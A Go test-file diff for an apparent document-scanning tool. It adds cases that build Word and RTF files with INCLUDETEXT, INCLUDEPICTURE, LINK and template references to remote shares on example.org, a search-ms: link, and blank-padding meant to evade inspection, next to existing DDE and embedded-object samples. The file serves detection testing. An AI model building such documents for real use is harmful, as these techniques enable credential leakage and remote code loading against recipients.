@@ -97,6 +97,17 @@ func fieldTricks(runs, fine addOffice) {
 	runs("dde-behind-fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)+code("DDE cmd")))
 	fine("fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)))
 	fine("field-that-has-no-end", docxType, inText(mark("begin")+`<w:r><w:instrText> PAGE </w:instrText></w:r>`))
+	long := strings.Repeat(" ", 600)
+	runs("text-from-a-share-behind-blanks", docxType, inText(code(`INCLUDETEXT `+long+`"\\\\example.org\\s\\a.docx"`)))
+	runs("text-from-a-share-behind-switches", docxType, inText(code(`INCLUDETEXT `+strings.Repeat(`\* MERGEFORMAT `, 60)+`"\\\\example.org\\s\\a.docx"`)))
+	runs("object-from-a-share-behind-blanks", docxType, inText(code(`LINK `+long, long+`Word.Document.8 "\\\\example.org\\s\\a.docx" \a`)))
+	runs("order-as-a-link-behind-blanks", docxType, inText(code(`HYPERLINK`+long+`"search-ms:query=x"`)))
+	runs("text-from-a-share-by-a-simple-field-behind-blanks", docxType, inText(`<w:fldSimple w:instr="INCLUDETEXT `+long+`&quot;\\example.org\s\a.docx&quot;"/>`))
+	runs("text-that-another-field-names", docxType, inText(mark("begin")+`<w:r><w:instrText>INCLUDETEXT "</w:instrText></w:r>`+mark("begin")+`<w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r>`+mark("end")+`<w:r><w:instrText>"</w:instrText></w:r>`+mark("end")))
+	runs("picture-from-a-share-by-a-field", docxType, inText(code(`INCLUDEPICTURE "\\\\example.org\\s\\a.png" \d`)))
+	fine("text-that-another-field-names-in-a-folder", docxType, inText(code(`INCLUDETEXT "`, code(`FILENAME \p`), `\\..\\a.docx"`)))
+	fine("link-of-1800-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 1800)+`" \t "_blank"`)))
+	fine("link-of-5000-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 5000)+`"`)))
 	fine("text-of-a-neighbour", docxType, inText(code(` INCLUDETEXT "C:\\Templates\\Terms.docx" `)))
 }
 
@@ -128,6 +139,9 @@ func relationshipTricks(runs, fine addOffice) {
 	runs("text-of-word-called-a-drawing", docxType, parts{"word/a.vml": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
 	runs("chart-whose-object-is-on-a-share", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", `file:///\\example.org\a.xlsx!`)})
 
+	runs("template-as-the-kernel-names-it", docxType, relTag(`Id="a"`+kind+` Target="\??\UNC\example.org\s\a.dotm" TargetMode="External"`))
+	runs("template-on-a-share-behind-localhost", docxType, relTag(`Id="a"`+kind+` Target="file://localhost//example.org/s/a.dotm" TargetMode="External"`))
+	fine("template-of-localhost", docxType, relTag(`Id="a"`+kind+` Target="file://localhost/C:/a.dotm" TargetMode="External"`))
 	fine("template-on-a-mac", docxType, relTag(`Id="a"`+kind+` Target="file:////Users/ann/Library/Letter.dotx" TargetMode="External"`))
 	fine("template-on-an-old-mac", docxType, relTag(`Id="a"`+kind+` Target="Macintosh%20HD:Users:ann:Letter.dotx" TargetMode="External"`))
 	fine("chart-whose-workbook-is-on-the-web", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", "https://example.org/Book1.xlsx!")})
@@ -147,6 +161,7 @@ func chunkTricks(runs, fine addOffice) {
 	runs("rtf-with-a-text-from-the-web", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT "http://example.org/a.docx"}}`))
 	runs("rtf-with-a-picture-from-a-share", docxType, rtf(`{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\example.org\\\\a.png" \\d}}`))
 	runs("rtf-with-an-object", docxType, rtf(`{\object\objemb{\*\objclass Package}{\*\objdata 0105}}`))
+	runs("rtf-with-a-text-behind-blanks", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT `+strings.Repeat(" ", 600)+`"http://example.org/a.doc"}}`))
 	runs("rtf-called-a-picture", docxType, parts{"word/media/image1.png": `{\rtf1{\object\objautlink}}`})
 	page := "<html><script>alert(1)</script></html>"
 	runs("mail-with-a-script-in-base64", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(page), 20)))
@@ -212,6 +227,8 @@ func boundTricks() []Case {
 		officeCase("name-of-5000-bytes-in-types", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/`+long+`" ContentType="x"/>`)}),
 		officeCase("type-of-5000-bytes", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/a" ContentType="`+long+`"/>`)}),
 		officeCase("document-named-by-5000-bytes", docxType, airlock.Malformed, parts{"_rels/.rels": rels("officeDocument", "word/document.xml", "officeDocument", long)}),
+		officeCase("rtf-with-bytes-beyond-its-end", docxType, airlock.Uninspectable, rtf(`{\*\x\bin4294967297 a}{\object\objautlink{\*\objdata 00}}`)),
+		officeCase("text-of-a-field-of-5000-bytes", docxType, airlock.Uninspectable, inText(code(`INCLUDETEXT "`+strings.Repeat("a", 5000)+`.docx"`))),
 		officeCase("document-that-is-rtf", docxType, airlock.Malformed, parts{"word/document.xml": `{\rtf1 hello}`}),
 		officeCase("document-that-is-an-archive", docxType, airlock.Malformed, parts{"word/document.xml": string(goZip("a", "b"))}),
 		officeCase("document-that-is-of-a-mac", docxType, airlock.Malformed, parts{"word/document.xml": "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "}),
